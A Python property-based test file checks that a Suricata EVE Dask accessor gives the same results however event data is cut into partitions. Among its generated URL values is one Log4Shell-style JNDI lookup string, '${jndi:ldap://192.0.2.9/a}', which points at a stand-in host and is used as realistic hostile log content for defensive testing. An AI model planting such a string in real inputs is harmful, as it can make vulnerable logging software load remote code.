"""Law of ``ddf.eve``: what flows tell does not depend on how events are cut into partitions."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any
from unittest.mock import patch

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

pytest.importorskip("dask.dataframe")

import dask
from dask_frames import in_parts

import suricata_eve.dask
from suricata_eve.dask import exchange

pytestmark = [
    pytest.mark.property,
    pytest.mark.filterwarnings("ignore::suricata_eve.errors.EveWarning"),
]

# An example builds and runs graphs, which takes a while.
EXAMPLES = max(15, settings().max_examples // 4)

TIME = pa.timestamp("us", "UTC")
COLUMNS = {
    "timestamp": TIME,
    "event_type": pa.string(),
    "flow_id": pa.int64(),
    "host": pa.string(),
    "src_ip": pa.string(),
    "src_port": pa.uint16(),
    "dest_ip": pa.string(),
    "dest_port": pa.uint16(),
    "proto": pa.string(),
    "app_proto": pa.string(),
    "direction": pa.string(),
    "flow.src_ip": pa.string(),
    "flow.start": TIME,
    "flow.end": TIME,
    "flow.bytes_toserver": pa.int64(),
    "http.url": pa.string(),
    "tags": pa.list_(pa.string()),
    "numbers": pa.list_(pa.int64()),
    "x.share": pa.float64(),
}
LOOKUP = "/${jndi:ldap://192.0.2.9/a}"


@pytest.fixture(autouse=True, scope="module")
def _travel() -> Iterator[None]:
    """Let rows travel as among few partitions, and to as many."""
    with patch.multiple(exchange, _FEW=16, _SHARE=1):
        yield


def few(*values: Any) -> st.SearchStrategy[Any]:
    """Few values, so that events meet; the missing one is among them."""
    return st.sampled_from([None, *values])


ROWS = st.fixed_dictionaries(
    {
        "timestamp": few(*range(4), 4 * 10**9),
        "event_type": st.sampled_from(["alert", "flow", "http", "dns", "stats"]),
        "flow_id": few(2**53, 2**53 + 1, 7, -1),
        "host": few("a", "b"),
        "src_ip": few("192.0.2.1", "192.0.2.2"),
        "src_port": few(80, 50000),
        "dest_ip": few("192.0.2.1", "192.0.2.2"),
        "dest_port": few(80, 50000),
        "proto": few("TCP", "UDP"),
        "app_proto": few("http", "ssh", "failed"),
        "direction": few("to_client", "to_server"),
        "flow.src_ip": few("192.0.2.1", "192.0.2.2"),
        "flow.start": few(1, 3),
        "flow.end": few(2, 10**9),
        # Sums of these are rounded as floats.
        "flow.bytes_toserver": few(1, 3, 2**53, 2**53 + 1, 2**62),
        "http.url": few("/", "/\x00", "/a" * 20, "/a" * 20 + "b", LOOKUP),
        "tags": st.none() | st.lists(few("", "a", "é"), max_size=3),
        "numbers": st.none() | st.lists(few(-1, 0, 2**53, 2**53 + 1), max_size=3),
        "x.share": few(0.0, -0.0, -1.5, float("inf")),
    }
)


def method(name: str, *args: Any, **options: Any) -> Callable[[Any], Any]:
    return lambda df: getattr(df.eve, name)(*args, **options)


CALLS = {
    "orient": method("orient"),
    "payloads": method("payloads", content="any"),
    "unexpected_ports": method("unexpected_ports", expected={"http": [8080]}),
    **{
        f"unique({field})": method("unique", field)
        for field in ("http.url", "tags", "numbers", "x.share", "client_ip", "community_id")
    },
    **{
        f"features({by})": method("features", by)
        for by in (
            "client_ip",
            "flow_id",
            "tags",
            ["http.url", "x.share"],
            ["app_proto", "flow_id"],
        )
    },
}


@st.composite
def cut_frames(draw: st.DrawFn) -> Any:
    """Return a frame of Dask, with partitions of any size, labels in any order and repeated."""
    rows = draw(st.lists(ROWS, max_size=10))
    columns = {
        name: pd.Series(
            [row[name] for row in rows], dtype=pd.ArrowDtype(kind), index=range(len(rows))
        )
        for name, kind in COLUMNS.items()
    }
    left_out = draw(
        st.sets(st.sampled_from(["flow_id", "host", "flow.start", "src_ip"]), max_size=1)
    )
    labels = draw(st.lists(st.integers(0, 5), min_size=len(rows), max_size=len(rows)))
    frame = pd.DataFrame(columns).set_axis(pd.Index(labels, dtype="int64"), axis="index")
    cuts = sorted(draw(st.lists(st.integers(0, len(rows)), max_size=2)))
    sizes = [stop - start for start, stop in zip([0, *cuts], [*cuts, len(rows)], strict=True)]
    return in_parts(frame.drop(columns=left_out), sizes)


def result(call: Callable[[Any], Any], frame: Any) -> Any:
    """Return what a call gives, or the error that it raises."""
    try:
        found = call(frame)
        return found if isinstance(found, pd.DataFrame) else found.compute()
    except suricata_eve.EveError as error:
        return type(error)


@settings(max_examples=EXAMPLES)
@given(cut_frames(), st.sampled_from(sorted(CALLS)))
def test_flows_tell_the_same_however_they_are_cut(ddf: Any, name: str) -> None:
    with dask.config.set(scheduler="sync"):
        expected, got = (result(CALLS[name], frame) for frame in (ddf.compute(), ddf))
        if isinstance(expected, type):
            assert got == expected
            return
        if name.startswith("un"):  # tables, of which each partition has an index of its own
            got = got.reset_index(drop=True)
        pd.testing.assert_frame_equal(got, expected, check_exact=True)
